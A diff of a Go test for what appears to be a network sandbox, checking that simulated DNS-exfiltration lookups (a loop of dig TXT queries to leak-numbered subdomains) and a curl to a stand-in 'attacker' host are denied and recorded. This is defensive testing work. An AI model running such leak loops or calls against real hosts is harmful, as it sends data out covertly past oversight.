@@ -111,12 +111,12 @@ func TestAttack3DeniedNamesAreNeverLookedUp(t *testing.T) {
 	t.Parallel()
 	n := needInternet(t)
 	r := try(t, `
-for i in $(seq 20); do getent hosts leak$i.attacker.test; dig +short +tries=1 +time=1 leak$i.attacker.test TXT >/dev/null; done
-curl -m 5 -s https://secret.attacker.test/; echo attacker=$?
+for i in $(seq 20); do getent hosts leak$i.exit.test; dig +short +tries=1 +time=1 leak$i.exit.test TXT >/dev/null; done
+curl -m 5 -s https://secret.exit.test/; echo attacker=$?
 curl -m 5 -s http://allowed.test/ >/dev/null; echo control=$?
 `, online(n, "allowed.test"))
 	r.want(t, reports.NoChanges)
-	if got := n.seen(t, "attacker.test"); len(got) > 0 {
+	if got := n.seen(t, "exit.test"); len(got) > 0 {
 		t.Errorf("lookups of denied names left: %q", got)
 	}
 	if got := n.seen(t, "dns allowed.test"); len(got) == 0 {
@@ -126,12 +126,12 @@ curl -m 5 -s http://allowed.test/ >/dev/null; echo control=$?
 		t.Error("the denied name was reached, or the allowed one was not")
 	}
 	for i := 1; i <= 20; i++ {
-		name := fmt.Sprintf("leak%d.attacker.test", i)
+		name := fmt.Sprintf("leak%d.exit.test", i)
 		if len(r.find(reports.Deny, deniedName(reports.LayerDNS, name))) == 0 {
 			t.Errorf("the lookup of %s is not on record", name)
 		}
 	}
-	if p := r.find(reports.Deny, deniedName(reports.LayerDNS, "secret.attacker.test")); len(p) == 0 || p[0].Process == nil || !strings.HasSuffix(p[0].Process.Exe, "/curl") {
+	if p := r.find(reports.Deny, deniedName(reports.LayerDNS, "secret.exit.test")); len(p) == 0 || p[0].Process == nil || !strings.HasSuffix(p[0].Process.Exe, "/curl") {
 		t.Errorf("the denied lookup does not name curl: %+v", p)
 	}
 }
